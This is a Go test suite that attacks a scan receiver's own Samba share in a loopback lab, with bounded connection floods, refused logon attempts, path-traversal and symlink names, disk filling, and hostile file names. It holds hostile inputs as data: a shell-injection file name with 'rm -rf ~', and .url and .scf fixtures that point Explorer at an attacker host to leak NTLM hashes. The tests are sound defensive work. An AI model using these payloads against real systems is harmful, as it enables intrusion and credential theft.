package receiver_test

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/cloudsoda/go-smb2"
	"golang.org/x/sys/unix"

	"github.com/scanwarden/scanwarden"
	"github.com/scanwarden/scanwarden/receiver"
	"github.com/scanwarden/scanwarden/receiver/samba"
	"github.com/scanwarden/scanwarden/testlab"
)

// The fallback share attacked as a host on the LAN would: floods, idle
// holders, logons it must refuse, paths that try to leave the share, hostile
// names, a disk filled from outside. Each attack runs against the real
// managed smbd (receiver.New + Open, as the daemon runs it) with real
// clients. Loopback plays the LAN: the MFP connects from 127.0.0.1 (the
// share's allowlist), 127.0.0.2 is another host. Every flood is bounded in
// count and time.

var (
	mfpIP      = netip.MustParseAddr("127.0.0.1")
	intruderIP = netip.MustParseAddr("127.0.0.2")
)

// family is what the managed smbd costs: its processes (its session), their
// descriptors and their proportional memory.
type family struct{ procs, fds, pssKB int }

func (f family) String() string {
	return fmt.Sprintf("%d processes, %d descriptors, PSS %.1f MiB", f.procs, f.fds, float64(f.pssKB)/1024)
}

func smbdFamily(sid int) family {
	var f family
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		pid, err := strconv.Atoi(e.Name())
		if err != nil {
			continue
		}
		if s, err := unix.Getsid(pid); err != nil || s != sid {
			continue
		}
		f.procs++
		fds, _ := os.ReadDir(fmt.Sprintf("/proc/%d/fd", pid))
		f.fds += len(fds)
		b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/smaps_rollup", pid))
		for _, l := range strings.Split(string(b), "\n") {
			if strings.HasPrefix(l, "Pss:") {
				if fl := strings.Fields(l); len(fl) > 1 {
					kb, _ := strconv.Atoi(fl[1])
					f.pssKB += kb
				}
			}
		}
	}
	return f
}

// negotiateRequest is an SMB2 NEGOTIATE (dialects 2.0.2 and 2.1) in its
// NetBIOS session frame: what every client sends first. guid is the client
// GUID it names.
func negotiateRequest(guid uint64) []byte {
	h := make([]byte, 64)
	copy(h, "\xfeSMB")
	binary.LittleEndian.PutUint16(h[4:], 64) // structure size
	binary.LittleEndian.PutUint16(h[14:], 1) // credits requested
	body := make([]byte, 40)
	binary.LittleEndian.PutUint16(body[0:], 36) // structure size
	binary.LittleEndian.PutUint16(body[2:], 2)  // dialect count
	binary.LittleEndian.PutUint16(body[4:], 1)  // signing enabled
	copy(body[12:20], "swflood!")               // client GUID
	binary.LittleEndian.PutUint64(body[20:], guid)
	binary.LittleEndian.PutUint16(body[36:], 0x0202)
	binary.LittleEndian.PutUint16(body[38:], 0x0210)
	msg := append(h, body...)
	return append([]byte{0, 0, byte(len(msg) >> 8), byte(len(msg))}, msg...)
}

// negotiate sends a NEGOTIATE naming client GUID guid on c and reads
// smbd's answer: nil when smbd answered with success.
func negotiate(c net.Conn, guid uint64) error {
	c.SetDeadline(time.Now().Add(5 * time.Second))
	defer c.SetDeadline(time.Time{})
	if _, err := c.Write(negotiateRequest(guid)); err != nil {
		return err
	}
	var hdr [4]byte
	if _, err := io.ReadFull(c, hdr[:]); err != nil {
		return err
	}
	resp := make([]byte, int(hdr[1])<<16|int(hdr[2])<<8|int(hdr[3]))
	if _, err := io.ReadFull(c, resp); err != nil {
		return err
	}
	if len(resp) < 12 || string(resp[:4]) != "\xfeSMB" {
		return fmt.Errorf("not an SMB2 response: % x", resp[:min(len(resp), 12)])
	}
	if st := binary.LittleEndian.Uint32(resp[8:]); st != 0 {
		return fmt.Errorf("NEGOTIATE status %#x", st)
	}
	return nil
}

func dialFrom(ip netip.Addr, addr string) (net.Conn, error) {
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: ip.AsSlice()}, Timeout: 2 * time.Second}
	return d.Dial("tcp", addr)
}

// floodResult is what a flood got.
type floodResult struct {
	held     []net.Conn // connections smbd answered and that are still open
	answered int        // NEGOTIATE answered
	refused  int        // closed or reset before an answer
	took     time.Duration
}

func (r floodResult) close() {
	for _, c := range r.held {
		c.Close()
	}
}

// flood opens n connections from ip (16 dialling at once), each sending a
// NEGOTIATE, and keeps the answered ones open. Half of them name one client
// GUID (smbd's multi-channel would gather those in one process, past its
// process bound), the others one each. Bounded: n connections, 30 s.
func flood(t *testing.T, ip netip.Addr, addr string, n int) floodResult {
	t.Helper()
	var (
		mu  sync.Mutex
		res floodResult
		wg  sync.WaitGroup
	)
	start := time.Now()
	deadline := start.Add(30 * time.Second)
	work := make(chan uint64, n)
	for i := range n {
		guid := uint64(i)
		if i%2 == 0 {
			guid = 0
		}
		work <- guid
	}
	close(work)
	for range 16 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for guid := range work {
				if time.Now().After(deadline) {
					return
				}
				c, err := dialFrom(ip, addr)
				if err == nil {
					err = negotiate(c, guid)
				}
				mu.Lock()
				if err == nil {
					res.answered++
					res.held = append(res.held, c)
				} else {
					res.refused++
					if c != nil {
						c.Close()
					}
				}
				mu.Unlock()
			}
		}()
	}
	wg.Wait()
	res.took = time.Since(start)
	return res
}

// closedWithin says whether the server closed c within d (EOF or reset).
func closedWithin(c net.Conn, d time.Duration) bool {
	// a deadline already past fails the read without looking: when the
	// subtests before took longer than the wait (a loaded machine), still
	// look whether smbd has closed it
	c.SetReadDeadline(time.Now().Add(max(d, 200*time.Millisecond)))
	var b [256]byte
	for {
		_, err := c.Read(b[:])
		if err == nil {
			continue
		}
		var ne net.Error
		return !(errors.As(err, &ne) && ne.Timeout())
	}
}

// attackClient runs smbclient against the share as user%password with extra
// options; it fails when smbclient fails or reports an NT status.
func attackClient(cfg receiver.Config, userpass string, extra []string, cmd string) (string, error) {
	args := []string{"//" + cfg.Listen.String() + "/" + cfg.Share, "-p", strconv.Itoa(cfg.Port), "--use-kerberos=disabled", "-t", "10", "-c", cmd}
	if userpass == "" {
		args = append(args, "-N")
	} else {
		args = append(args, "-U", userpass)
	}
	out, err := exec.Command("smbclient", append(args, extra...)...).CombinedOutput()
	if err == nil && strings.Contains(string(out), "NT_STATUS_") {
		err = errors.New("NT status")
	}
	return string(out), err
}

// outsideInbox lists the files under the data dir's parent that are
// neither in the inbox nor receiver's own (held area, smbd, database):
// where an escape would land.
func outsideInbox(t *testing.T, e *env, marker string) []string {
	t.Helper()
	var found []string
	filepath.WalkDir(filepath.Dir(e.dir), func(p string, d fs.DirEntry, err error) error {
		if err == nil && strings.Contains(d.Name(), marker) && !strings.HasPrefix(p, receiver.Inbox(e.dir)+string(filepath.Separator)) {
			found = append(found, p)
		}
		return nil
	})
	return found
}

// mfpShare logs on as the MFP with go-smb2, which sends names as given
// (smbclient cleans "..\" out of a name before it leaves).
func mfpShare(t *testing.T, cfg receiver.Config) *smb2.Share {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	d := &smb2.Dialer{Initiator: &smb2.NTLMInitiator{User: "swmfp", Password: mfpPassword}}
	s, err := d.Dial(ctx, net.JoinHostPort(cfg.Listen.String(), strconv.Itoa(cfg.Port)))
	if err != nil {
		t.Fatalf("MFP logon: %v", err)
	}
	t.Cleanup(func() { s.Logoff() })
	sh, err := s.Mount(`\\` + cfg.Listen.String() + `\` + cfg.Share)
	if err != nil {
		t.Fatalf("MFP tree connect: %v", err)
	}
	t.Cleanup(func() { sh.Umount() })
	return sh
}

// TestAttackShare runs the LAN attacks on one managed smbd whose allowlist
// is the MFP's address. Idle holders are opened first and checked last: smbd
// drops a connection that never reaches a tree connect after 60 s (Samba's
// own fixed timer), so this test lasts about 65 s, mostly waiting.
func TestAttackShare(t *testing.T) {
	e := newEnv(t, opts{allow: []netip.Prefix{netip.PrefixFrom(mfpIP, 32)}})
	addr := net.JoinHostPort(e.cfg.Listen.String(), strconv.Itoa(e.cfg.Port))
	sid := e.r.Samba().Pid()
	base := smbdFamily(sid)
	t.Logf("idle smbd: %v", base)

	// Idle holders from the allowed address: two never say a word, two
	// negotiate and never log on.
	holdersAt := time.Now()
	var silent, negotiated []net.Conn
	for i := 0; i < 2; i++ {
		c, err := dialFrom(mfpIP, addr)
		if err != nil {
			t.Fatal(err)
		}
		silent = append(silent, c)
		c, err = dialFrom(mfpIP, addr)
		if err != nil {
			t.Fatal(err)
		}
		if err := negotiate(c, uint64(1000+i)); err != nil {
			t.Fatalf("negotiate from the MFP's address: %v", err)
		}
		negotiated = append(negotiated, c)
	}
	holders := append(append([]net.Conn{}, silent...), negotiated...)
	defer func() {
		for _, c := range holders {
			c.Close()
		}
	}()

	uploads := 0
	upload := func(name string) error {
		uploads++
		return e.put("reception/"+name, pdf(name), false)
	}

	t.Run("flood from an address outside the allowlist", func(t *testing.T) {
		// An intruder is dropped before smbd reads any SMB, so it holds no
		// process: the MFP gets in while the flood goes on.
		c, err := dialFrom(intruderIP, addr)
		if err != nil {
			t.Fatal(err)
		}
		start := time.Now()
		if !closedWithin(c, 5*time.Second) {
			t.Fatal("a connection from outside the allowlist is still open after 5 s")
		}
		t.Logf("one connection from %s: closed by smbd after %v", intruderIP, time.Since(start).Round(time.Millisecond))
		c.Close()
		var during error
		var wg sync.WaitGroup
		wg.Add(1)
		go func() {
			defer wg.Done()
			time.Sleep(200 * time.Millisecond)
			during = upload("during-denied-flood.pdf")
		}()
		r := flood(t, intruderIP, addr, 300)
		fam := smbdFamily(sid)
		wg.Wait()
		defer r.close()
		t.Logf("300 connections + NEGOTIATE from %s in %v: %d answered, %d refused; smbd: %v", intruderIP, r.took.Round(time.Millisecond), r.answered, r.refused, fam)
		if r.answered != 0 {
			t.Errorf("smbd answered %d NEGOTIATEs from outside the allowlist", r.answered)
		}
		if fam.procs > samba.MaxSmbdProcesses+1 {
			t.Errorf("smbd runs %d processes (bound %d + 1)", fam.procs, samba.MaxSmbdProcesses)
		}
		if during != nil {
			t.Errorf("the MFP's upload during the flood failed: %v", during)
		}
	})

	t.Run("flood from the allowed address", func(t *testing.T) {
		// Someone on the MFP's own address (or spoofing it) fills every
		// process slot: the count is bounded, the slots beyond it are
		// closed at accept, and the share is back as soon as they go.
		r := flood(t, mfpIP, addr, 300)
		fam := smbdFamily(sid)
		t.Logf("300 connections + NEGOTIATE from %s in %v: %d answered and held, %d refused at accept; smbd: %v", mfpIP, r.took.Round(time.Millisecond), r.answered, r.refused, fam)
		if max := samba.MaxSmbdProcesses - len(holders); r.answered > max {
			t.Errorf("%d NEGOTIATEs answered, more than the %d free process slots", r.answered, max)
		}
		if fam.procs > samba.MaxSmbdProcesses+1 {
			t.Errorf("smbd runs %d processes (bound %d + 1)", fam.procs, samba.MaxSmbdProcesses)
		}
		if err := upload("while-slots-held.pdf"); err != nil {
			t.Logf("the MFP's upload while every slot is held: refused (%s)", firstLine(err.Error()))
		} else {
			t.Logf("the MFP's upload while every slot is held: got in")
		}
		r.close()
		start := time.Now()
		var err error
		for time.Since(start) < 10*time.Second {
			if err = upload("after-flood.pdf"); err == nil {
				break
			}
			time.Sleep(200 * time.Millisecond)
		}
		if err != nil {
			t.Fatalf("the MFP's upload 10 s after the flood ended: %v", err)
		}
		t.Logf("the MFP's upload after the flood: ok %v after it ended", time.Since(start).Round(time.Millisecond))
	})

	t.Run("logons that must be refused", func(t *testing.T) {
		user := "swattack"
		unixPw := "Attack.Unix-25"
		if _, err := exec.Command("id", user).CombinedOutput(); err != nil {
			if out, err := exec.Command("useradd", "--system", "--no-create-home", "--shell", "/usr/sbin/nologin", user).CombinedOutput(); err != nil {
				t.Fatalf("useradd: %v %s", err, out)
			}
			defer exec.Command("userdel", user).Run()
		}
		chpw := exec.Command("chpasswd")
		chpw.Stdin = strings.NewReader(user + ":" + unixPw + "\n")
		if out, err := chpw.CombinedOutput(); err != nil {
			t.Fatalf("chpasswd: %v %s", err, out)
		}
		src := filepath.Join(t.TempDir(), "x.pdf")
		os.WriteFile(src, pdf("intruder"), 0o600)
		smb1 := []string{"-m", "NT1", "--option=client min protocol=NT1", "--option=client ntlmv2 auth=no", "--option=client use spnego=no"}
		for _, tc := range []struct {
			name, userpass string
			extra          []string
		}{
			{"wrong password", "swmfp%Wrong.Pass-25", []string{"-m", "SMB3"}},
			{"guest", "guest%", []string{"-m", "SMB3"}},
			{"unknown user", "nosuchuser%whatever", []string{"-m", "SMB3"}},
			{"anonymous", "", []string{"-m", "SMB3"}},
			{"local Linux user with its Unix password", user + "%" + unixPw, []string{"-m", "SMB3"}},
			{"local root", "root%" + unixPw, []string{"-m", "SMB3"}},
			{"NTLMv1 over SMB3", "swmfp%" + mfpPassword, []string{"-m", "SMB3", "--option=client ntlmv2 auth=no"}},
			{"SMB1 with NTLMv1", "swmfp%" + mfpPassword, smb1},
			{"SMB1 with NTLMv2", "swmfp%" + mfpPassword, smb1[:3]},
		} {
			name := "refused-" + strings.ReplaceAll(tc.name, " ", "-") + ".pdf"
			out, err := attackClient(e.cfg, tc.userpass, tc.extra, fmt.Sprintf("put %s reception/%s", src, name))
			if err == nil {
				t.Errorf("%s: got in and stored a file:\n%s", tc.name, out)
				continue
			}
			t.Logf("%s: %s", tc.name, lastStatus(out))
			if _, err := os.Stat(filepath.Join(receiver.Inbox(e.dir), "reception", name)); err == nil {
				t.Errorf("%s: the file is in the inbox", tc.name)
			}
		}
	})

	t.Run("paths that try to leave the share", func(t *testing.T) {
		sh := mfpShare(t, e.cfg)
		for _, name := range []string{`..\escape-1.pdf`, `reception\..\..\escape-2.pdf`, `reception\..\..\..\..\tmp\escape-3.pdf`,
			`reception\..\..\smbd\escape-4.pdf`, `..\held\escape-5.pdf`} {
			f, err := sh.Create(name)
			if err == nil {
				f.Write(pdf("escape"))
				f.Close()
				t.Errorf("create %q: accepted", name)
				continue
			}
			t.Logf("create %q: %v", name, shortErr(err))
		}
		if err := sh.Symlink("/etc/passwd", `reception\passwd.pdf`); err == nil {
			t.Errorf("the MFP made a symlink in the share")
		} else {
			t.Logf("symlink to /etc/passwd: %v", shortErr(err))
		}
		if found := outsideInbox(t, e, "escape-"); len(found) > 0 {
			t.Errorf("written outside the share: %v", found)
		}
		if _, err := os.Stat("/tmp/escape-3.pdf"); err == nil {
			t.Errorf("/tmp/escape-3.pdf written")
		}
		if _, err := os.Lstat(filepath.Join(receiver.Inbox(e.dir), "reception", "passwd.pdf")); err == nil {
			t.Errorf("a link is in the inbox")
		}
	})

	t.Run("a hard link cannot change a held scan", func(t *testing.T) {
		// SMB lets a client give a file a second name. A junk name stays in
		// the inbox; if it still shared the held scan's inode, writing to
		// it would change the scan after it was catalogued.
		src, evil := filepath.Join(t.TempDir(), "a.pdf"), filepath.Join(t.TempDir(), "evil.pdf")
		os.WriteFile(src, pdf("the real scan"), 0o600)
		os.WriteFile(evil, pdf("written later through the second name"), 0o600)
		mfp := "swmfp%" + mfpPassword
		if out, err := attackClient(e.cfg, mfp, []string{"-m", "SMB3"}, "put "+src+" reception/linked.pdf; hardlink reception/linked.pdf reception/._linked.pdf"); err != nil {
			t.Fatalf("hard link: %v\n%s", err, out)
		}
		want := sum(pdf("the real scan"))
		rows := e.waitScans(5*time.Second, "linked scan held", func(r []receiver.Scan) bool {
			for _, s := range r {
				if s.SHA256 == want {
					return true
				}
			}
			return false
		})
		if out, err := attackClient(e.cfg, mfp, []string{"-m", "SMB3"}, "put "+evil+" reception/._linked.pdf"); err != nil {
			t.Fatalf("overwrite through the second name: %v\n%s", err, out)
		}
		for _, s := range rows {
			if s.SHA256 != want {
				continue
			}
			b, err := os.ReadFile(filepath.Join(e.dir, s.HeldPath))
			if err != nil || sum(b) != want {
				t.Fatalf("the held scan changed through its second name: %v %q", err, b)
			}
			t.Logf("held scan %d unchanged after a write through its hard link", s.ID)
		}
	})

	t.Run("hostile names", func(t *testing.T) {
		sh := mfpShare(t, e.cfg)
		names := []string{
			strings.Repeat("n", 240) + ".pdf",          // over maxName, under the filesystem's 255
			strings.Repeat("o", 300) + ".pdf",          // over the filesystem's limit
			"invoice\u202efdp.exe.pdf",                 // right-to-left override: shows as "invoicefdp.exe.pdf" reversed
			"bell\a\x1b[31mred.pdf",                    // control characters, a terminal escape
			"CON.pdf",                                  // a DOS device name
			"pipe|star*quest?.pdf",                     // characters Windows refuses
			"a:stream.pdf",                             // an NTFS stream name
			"  .dots and spaces. ",                     // stripped
			"zero\u200bwidth\u2066isolate\u2069.pdf",   // zero-width space, bidi isolate
			"$(touch /tmp/sw-pwned);`id`;rm -rf ~.pdf", // shell metacharacters are just characters
		}
		landed := map[string]string{} // sha256 → name as sent
		for i, name := range names {
			data := pdf(fmt.Sprintf("hostile name %d", i))
			f, err := sh.Create(`reception\` + name)
			if err != nil {
				t.Logf("create %q: refused by smbd: %v", trunc(name), shortErr(err))
				continue
			}
			_, werr := f.Write(data)
			if cerr := f.Close(); werr != nil || cerr != nil {
				t.Errorf("%q: write %v close %v", trunc(name), werr, cerr)
				continue
			}
			landed[sum(data)] = name
		}
		sh.Umount()
		if len(landed) < 5 {
			t.Fatalf("only %d hostile names reached the share; the test shows nothing", len(landed))
		}
		rows := e.waitScans(5*time.Second, "hostile names catalogued", func(r []receiver.Scan) bool {
			n := 0
			for _, s := range r {
				if _, ok := landed[s.SHA256]; ok {
					n++
				}
			}
			return n == len(landed)
		})
		for _, s := range rows {
			name, ok := landed[s.SHA256]
			if !ok {
				continue
			}
			want := receiver.SafeName(name)
			wantState := receiver.Held
			if !strings.EqualFold(filepath.Ext(want), ".pdf") {
				wantState = receiver.Refused // a PDF whose name lost its extension
			}
			if s.File != want || s.State != wantState || s.Destination != "Reception desk" {
				t.Errorf("%q catalogued as %q (%s, %q), want %q %s for Reception desk", trunc(name), s.File, s.State, s.Destination, want, wantState)
			}
			if len(s.File) > 200 || strings.ContainsFunc(s.File, func(r rune) bool {
				return r < 0x20 || r == 0x7f || strings.ContainsRune("/\\:*?\"<>|\u202e\u200b\u2066\u2069", r)
			}) {
				t.Errorf("catalogued name %q is not safe", s.File)
			}
			if b, err := os.ReadFile(filepath.Join(e.dir, s.HeldPath)); err != nil || sum(b) != s.SHA256 {
				t.Errorf("%q: held copy: %v", trunc(name), err)
			}
			t.Logf("%q → %q", trunc(name), trunc(s.File))
		}
		if _, err := os.Stat("/tmp/sw-pwned"); err == nil {
			t.Errorf("a name ran a command")
		}
	})

	// Back to the idle holders.
	t.Run("idle connections are dropped", func(t *testing.T) {
		deadline := holdersAt.Add(75 * time.Second)
		if testing.Short() {
			t.Skip("-short: not waiting the 60 s for smbd's idle timer")
		}
		life := make([]time.Duration, len(holders))
		for i, c := range holders {
			if !closedWithin(c, time.Until(deadline)) {
				t.Errorf("holder %d still open %v after it connected", i, time.Since(holdersAt).Round(time.Second))
				continue
			}
			life[i] = time.Since(holdersAt).Round(100 * time.Millisecond)
		}
		t.Logf("idle connections dropped by smbd after: silent %v, negotiated but never logged on %v", life[:2], life[2:])
		fam := smbdFamily(sid)
		t.Logf("smbd afterwards: %v", fam)
	})
	if uploads == 0 {
		t.Fatal("no upload ran")
	}
}

func firstLine(s string) string { l, _, _ := strings.Cut(s, "\n"); return l }

// lastStatus is the NT statuses smbclient reported (or its last line).
func lastStatus(out string) string {
	var sts []string
	for _, f := range strings.Fields(out) {
		if i := strings.Index(f, "NT_STATUS_"); i >= 0 && !slices.Contains(sts, f[i:]) {
			sts = append(sts, f[i:])
		}
	}
	if len(sts) == 0 {
		return firstLine(strings.TrimSpace(out))
	}
	return strings.Join(sts, ", ")
}

func shortErr(err error) string { return trunc(err.Error()) }

func trunc(s string) string {
	if len(s) > 60 {
		return s[:40] + "…" + s[len(s)-12:] + fmt.Sprintf(" (%d bytes)", len(s))
	}
	return s
}

// With SMB1 on (old firmware), Samba's default unix extensions would let a
// client create links; the share's config turns them off.
func TestAttackShareSMB1Links(t *testing.T) {
	e := newEnv(t, opts{smb1: true})
	smb1 := []string{"-m", "NT1", "--option=client min protocol=NT1", "--option=client ntlmv2 auth=no", "--option=client use spnego=no"}
	if out, err := attackClient(e.cfg, "swmfp%"+mfpPassword, smb1, "ls"); err != nil {
		t.Fatalf("the SMB1 MFP cannot log on: %v\n%s", err, out)
	}
	for _, cmd := range []string{
		"symlink /etc/passwd reception/passwd.pdf",
		"symlink ../../smbd/smb.conf reception/conf.pdf",
		"posix",
	} {
		out, err := attackClient(e.cfg, "swmfp%"+mfpPassword, smb1, cmd)
		if err == nil && !strings.Contains(out, "not support") && !strings.Contains(out, "UNIX CIFS") {
			t.Errorf("%s: accepted:\n%s", cmd, out)
			continue
		}
		t.Logf("%s: %s", cmd, lastStatus(out))
	}
	filepath.WalkDir(receiver.Inbox(e.dir), func(p string, d fs.DirEntry, err error) error {
		if err == nil && !d.IsDir() && !d.Type().IsRegular() {
			t.Errorf("%s in the inbox is a %v", p, d.Type())
		}
		return nil
	})
}

// An upload bigger than the data dir's free space: the uploader is told
// the disk is full, the scans already held stay byte for byte, status says
// so, and once space is back they are delivered, each once.
func TestAttackShareFillDisk(t *testing.T) {
	requireSmbd(t)
	dir := filepath.Join(t.TempDir(), "tmpfs")
	os.Mkdir(dir, 0o755)
	if out, err := exec.Command("mount", "-t", "tmpfs", "-o", "size=12m,mode=0755", "swrx-fill", dir).CombinedOutput(); err != nil {
		testlab.Missing(t, fmt.Sprintf("cannot mount a tmpfs: %v %s", err, out))
	}
	t.Cleanup(func() { exec.Command("umount", "-l", dir).Run() })
	remote := &dirRemote{dir: t.TempDir()}
	remote.broken.Store(true)
	e := newEnv(t, opts{remote: remote, dir: dir})
	held := map[string]bool{}
	for i := 0; i < 2; i++ {
		data := pdf(strings.Repeat(fmt.Sprint(i), 100<<10))
		if err := e.put(fmt.Sprintf("reception/before-%d.pdf", i), data, false); err != nil {
			t.Fatal(err)
		}
		held[sum(data)] = true
	}
	// held, or failed (the destination is down): kept either way
	kept := func(r []receiver.Scan) int { return count(r, receiver.Held) + count(r, receiver.Failed) }
	rows := e.waitScans(5*time.Second, "two scans held", func(r []receiver.Scan) bool { return kept(r) == 2 })
	st, _ := e.r.Status(context.Background())
	big := pdf(strings.Repeat("x", int(st.FreeBytes)+4<<20))
	start := time.Now()
	err := e.put("reception/huge.pdf", big, false)
	if err == nil {
		t.Fatalf("a %d MiB upload into %d MiB free was accepted", len(big)>>20, st.FreeBytes>>20)
	}
	if !strings.Contains(err.Error(), "DISK_FULL") {
		t.Errorf("the uploader is not told the disk is full: %v", err)
	}
	t.Logf("%d MiB upload into %.1f MiB free: refused after %v (%s)", len(big)>>20, float64(st.FreeBytes)/(1<<20),
		time.Since(start).Round(time.Millisecond), lastStatus(err.Error()))
	st, err = e.r.Status(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	full := false
	for _, w := range st.Warnings {
		full = full || strings.Contains(w, "nearly full")
	}
	if !full || st.Counts[receiver.Held]+st.Counts[receiver.Failed] != 2 {
		t.Fatalf("status does not say the disk is full, or lost a held scan: %+v", st)
	}
	t.Logf("status: %q; %d kept, %d in the inbox (%d KiB), %d KiB free", st.Warnings, st.Counts[receiver.Held]+st.Counts[receiver.Failed], st.Inbox, st.InboxBytes>>10, st.FreeBytes>>10)
	for _, r := range rows {
		if b, err := os.ReadFile(filepath.Join(e.dir, r.HeldPath)); err != nil || sum(b) != r.SHA256 {
			t.Errorf("held scan %d changed or gone: %v", r.ID, err)
		}
	}
	// The admin removes the cut upload; the destination heals.
	os.Remove(filepath.Join(receiver.Inbox(e.dir), "reception", "huge.pdf"))
	remote.broken.Store(false)
	rows = e.waitScans(10*time.Second, "both held scans delivered", func(r []receiver.Scan) bool { return count(r, receiver.Delivered) == 2 })
	for _, r := range rows {
		if r.State == receiver.Delivered && !held[r.SHA256] {
			t.Errorf("delivered %s (%s), not one of the held scans", r.File, r.SHA256[:12])
		}
		if r.SHA256 == sum(big) {
			t.Errorf("the cut upload was catalogued: %+v", r)
		}
	}
	ents, _ := os.ReadDir(remote.dir)
	if len(ents) != 2 {
		t.Errorf("%d files at the destination, want 2", len(ents))
	}
}

// TestAttackShareDeliversOnlyScans: whoever holds the MFP account's password
// drops Windows shell files and programs into the share — a .lnk, a .url and
// an .scf (each makes Explorer fetch an icon from an attacker's host and
// leak the user's NTLM hash when the folder is opened), an .exe, a PDF named
// .exe, an EXE named .pdf. None reaches the real folder; each is listed as
// refused with why; the control PDF beside them is delivered. With the lab,
// the real folder is the DC's share; without, a local folder (a fake).
func TestAttackShareDeliversOnlyScans(t *testing.T) {
	requireSmbd(t)
	var remote receiver.Remote
	var target scanwarden.Target
	var destDir string
	if lab, _ := testlab.Load(); lab != nil {
		sub := "rx-onlyscans-" + strconv.FormatInt(time.Now().UnixNano(), 36)
		destDir = filepath.Join(lab.Dir, "dc", "shares", "scans", sub)
		if err := os.Mkdir(destDir, 0o777); err != nil {
			t.Fatal(err)
		}
		os.Chmod(destDir, 0o777)
		t.Cleanup(func() { os.RemoveAll(destDir) })
		target = scanwarden.Target{Host: lab.DCIP, Share: "scans", Path: sub, User: lab.Domain + `\alice`, Workstation: "MFP01",
			Password: scanwarden.NewSecret(lab.Password)}
		remote = receiver.SMBRemote{MaxFailures: 2, Timeout: 10 * time.Second}
		t.Logf("delivering to the lab DC: //%s/scans/%s", lab.DCIP, sub)
	} else {
		destDir = t.TempDir()
		remote = &dirRemote{dir: destDir}
		t.Log("no lab: delivering into a local folder (fake destination)")
	}
	e := newEnv(t, opts{remote: remote, dests: staticDests{{Name: "Reception desk", Folder: "reception", Target: target}}})
	exe := append([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"), make([]byte, 4096)...)
	lnk := append([]byte{0x4C, 0x00, 0x00, 0x00, 0x01, 0x14, 0x02, 0x00, 0x00, 0x00, 0x00, 0x00, 0xC0, 0, 0, 0, 0, 0, 0, 0x46}, make([]byte, 200)...)
	drops := map[string][]byte{
		"Invoice.lnk":  lnk,
		"portal.url":   []byte("[InternetShortcut]\r\nURL=https://intranet/\r\nIconFile=\\\\10.77.0.66\\icons\\x.ico\r\nIconIndex=1\r\n"),
		"@Scans.scf":   []byte("[Shell]\r\nCommand=2\r\nIconFile=\\\\10.77.0.66\\icons\\x.ico\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n"),
		"update.exe":   exe,
		"scan0001.exe": pdf("a PDF named .exe"),
		"scan0002.pdf": exe,
	}
	control := pdf("the one real scan")
	sh := mfpShare(t, e.cfg)
	all := map[string][]byte{"control.pdf": control}
	for name, data := range drops {
		all[name] = data
	}
	for name, data := range all {
		f, err := sh.Create(`reception\` + name)
		if err != nil {
			t.Fatalf("create %s: %v", name, err)
		}
		_, werr := f.Write(data)
		if cerr := f.Close(); werr != nil || cerr != nil {
			t.Fatalf("%s: write %v close %v", name, werr, cerr)
		}
	}
	sh.Umount()
	rows := e.waitScans(10*time.Second, "control delivered, the rest refused", func(r []receiver.Scan) bool {
		return count(r, receiver.Delivered) == 1 && count(r, receiver.Refused) == len(drops)
	})
	for _, s := range rows {
		switch {
		case s.File == "control.pdf":
			if s.State != receiver.Delivered {
				t.Errorf("control.pdf %s", s.State)
			}
		case drops[s.File] != nil:
			if s.State != receiver.Refused || !strings.HasPrefix(s.Error, receiver.RefusedPrefix) || s.SHA256 != sum(drops[s.File]) {
				t.Errorf("%s: %s %q", s.File, s.State, s.Error)
			}
			t.Logf("%s: %s", s.File, s.Error)
			// not even by hand
			if err := e.r.DeliverScan(context.Background(), s.ID); err == nil || !strings.Contains(err.Error(), "refused") {
				t.Errorf("%s: deliver by hand: %v", s.File, err)
			}
		default:
			t.Errorf("unexpected row %+v", s)
		}
	}
	if n, err := e.r.Deliver(context.Background(), ""); n != 0 {
		t.Errorf("deliver everything now: %d delivered (%v)", n, err)
	}
	ents, err := os.ReadDir(destDir)
	if err != nil {
		t.Fatal(err)
	}
	var landed []string
	for _, d := range ents {
		landed = append(landed, d.Name())
	}
	if len(landed) != 1 || landed[0] != "control.pdf" {
		t.Fatalf("the real folder holds %q, want only control.pdf", landed)
	}
	st, err := e.r.Status(context.Background())
	if err != nil || st.Counts[receiver.Refused] != len(drops) {
		t.Errorf("status counts %v (%v), want %d refused", st.Counts, err, len(drops))
	}
}
